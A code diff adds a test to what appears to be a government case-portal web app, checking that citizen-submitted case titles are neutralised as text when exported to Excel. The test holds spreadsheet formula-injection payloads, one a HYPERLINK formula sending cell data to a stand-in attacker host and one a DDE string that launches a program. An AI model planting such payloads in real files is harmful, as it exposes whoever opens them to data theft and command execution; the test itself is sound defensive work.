@@ -527,3 +527,18 @@ def test_wrong_totp_is_cleared_and_lockout_says_until_when(app, monkeypatch):
     until = clock.to_local(clock.utcnow() + timedelta(minutes=15))
     assert "账号已暂时锁定，请于" in html and "（北京时间）后再试" in html
     assert f"{until:%H:%M}" in html or f"{until - timedelta(minutes=1):%H:%M}" in html
+
+
+def test_export_never_turns_citizen_text_into_a_formula(client, app):
+    from tests.helpers import citizen_headers
+
+    headers = citizen_headers(client, "13900094000")
+    for title in ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)"):
+        resp = client.post("/api/v1/demo/cases", headers=headers, json={"township_code": MINHE, "title": title})
+        assert resp.status_code == 201, resp.get_json()
+    officer = _officer(app, "desk_formula")
+    book = load_workbook(io.BytesIO(officer.get("/portal/queue?format=xlsx").data))
+    cells = [c for row in book.active.iter_rows(min_row=3) for c in row if c.column == 3]
+    assert len(cells) == 3
+    for cell in cells:
+        assert cell.data_type == "s" and cell.value.startswith("'")
